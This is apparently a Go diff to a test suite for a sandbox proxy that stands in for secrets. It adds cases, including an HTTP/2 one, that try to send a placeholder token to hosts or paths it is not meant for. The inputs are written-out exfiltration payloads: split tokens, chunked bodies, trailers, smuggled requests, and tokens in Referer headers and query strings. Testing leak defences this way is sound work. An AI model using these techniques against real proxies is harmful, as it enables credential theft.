@@ -29,7 +29,10 @@ func proxySecrets() []Row {
 	for _, to := range elsewhere {
 		host, _, _ := strings.Cut(strings.Fields(to)[1], ":")
 		stray = append(stray, say(to, ask(host, "/leak", bearer)), say(to, ask(host, "/leak?{}", "")), say(to, ask(host, "/leak", "Cookie: a={}\r\n")), say(to, ask(host, "/leak", "Authorization: Basic {basic}\r\n")),
-			say(to, "POST /leak HTTP/1.1\r\nHost: "+host+"\r\nContent-Length: {length}\r\n\r\n{}"))
+			say(to, "POST /leak HTTP/1.1\r\nHost: "+host+"\r\nContent-Length: {length}\r\n\r\n{}"),
+			say(to, "GET /leak HTTP/1.1\r\nHost: "+host+"\r\nAuthorization: Bearer {half1}", "{half2}\r\nConnection: close\r\n\r\n"), say(to, ask(host, "/leak?a={escaped}", "")), say(to, ask(host, "/", "")[:len(ask(host, "/", ""))-2]+"Referer: {}\r\n\r\n"),
+			say(to, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n"+ask(host, "/leak", bearer)),
+			say(to, "POST /parts HTTP/1.1\r\nHost: "+host+"\r\nContent-Length: {length}\r\n\r\n{half1}", "{half2}"), say(to, "POST /parts HTTP/1.1\r\nHost: "+host+"\r\nTransfer-Encoding: chunked\r\n\r\n{size1}\r\n{half1}\r\n", "{size2}\r\n{half2}\r\n0\r\n\r\n"))
 	}
 	misplaced := []string{
 		say("direct allowed.test:443", ask("allowed.test", "/misplaced?{}", "")), say("direct allowed.test:443", ask("allowed.test", "/misplaced/{}/x", "")),
@@ -60,11 +63,26 @@ func proxySecrets() []Row {
 			Args: []string{"env=" + lentSecret.Env, "ok=" + say("direct allowed.test:443", ask("allowed.test", "/right", bearer)), "say=" + rowsOf(
 				say("direct allowed.test:443", ask("allowed.test", "/echo/location", bearer)), say("direct allowed.test:443", ask("allowed.test", "/echo/early", bearer)), say("direct allowed.test:443", ask("allowed.test", "/echo/trailer", bearer)),
 				say("direct allowed.test:443", ask("allowed.test", "/echo/status", bearer)), say("direct allowed.test:443", ask("allowed.test", "/echo/parts", bearer)), say("direct allowed.test:443", ask("allowed.test", "/echo/gzip", bearer+"Accept-Encoding: gzip\r\n")))}},
+		{ID: "PXY-026e", Title: "a secret goes to a host or a place that it is not for, by HTTP/2",
+			Refs: []string{"RFC 9113, 8.1"}, Action: "net-h2",
+			Options: Options{Reach: lentReach, Secrets: []Secret{lentSecret}}, Setup: lend, Oracle: arrived("/leak"),
+			Args: []string{"env=" + lentSecret.Env, "ok=" + h2("allowed.test", "/right", "authorization=Bearer {}"), "say=" + rowsOf(
+				h2("a.wild.test", "/leak", "authorization=Bearer {}"), h2("a.wild.test", "/leak?{}"), h2("a.wild.test", "/leak", "cookie=a={}"), h2("a.wild.test", "/leak", "=DATA {}", "=TRAILER authorization=Bearer {}"),
+				h2("a.wild.test", "/leak", "cookie={half1}", "cookie={half2}", "x={}"), h2("allowed.test", "/misplaced", "x={}"), h2("allowed.test", "/misplaced", "authorization=Bearer {}", "authorization=Bearer {}"),
+				h2("allowed.test", "/misplaced", "=DATA a", "=TRAILER authorization=Bearer {}"), h2("allowed.test", "/misplaced/{}"), h2("allowed.test", "/echo", "authorization=Bearer {}"), h2("allowed.test", "/echo/trailer", "authorization=Bearer {}"))}},
 		{ID: "PXY-025b", Title: "another run spends the stand-in of this one's secret",
 			Refs: []string{"srt socks-unauthenticated-probe.test.ts"}, Action: "net-secret", Setup: lend,
 			Options: Options{Reach: lentReach, Secrets: []Secret{lentSecret}}, Drive: borrowers, Oracle: borrowed},
 	}
 }
+
+// h2 is a line of net-h2.
+func h2(host, path string, fields ...string) string {
+	return say("direct "+host+":443", append([]string{":method=POST", ":scheme=https", ":authority=" + host, ":path=" + path}, fields...)...)
+}
+
+// lentLength is how long a stand-in is: as long as the secret.
+func (w *World) lentLength() int { return len(w.Token(lentName)) }
 
 // borrowers are two runs with a secret each, the second of which spends the
 // stand-in of the first.
@@ -113,11 +131,16 @@ func lend(w *World) error {
 func arrived(path string) func(*World, Observation) []string {
 	return func(w *World, _ Observation) []string {
 		var out []string
+		for _, v := range w.net.requests("/parts") {
+			if len(v.body) > 0 && len(v.body) == w.lentLength() {
+				out = append(out, fmt.Sprintf("%s:%d was sent, in parts, what stands for a secret of another host", v.name, v.to.Port()))
+			}
+		}
 		for _, v := range w.net.requests(path) {
 			if v.method == "POST" && v.body == "" {
 				continue // it was stopped when the body came
 			}
-			out = append(out, fmt.Sprintf("%s:%d was sent what stands for a secret of another host: %s %s", v.name, v.to.Port(), v.method, v.target))
+			out = append(out, fmt.Sprintf("%s:%d got a request that it should not: %s %s", v.name, v.to.Port(), v.method, v.target))
 		}
 		return out
 	}
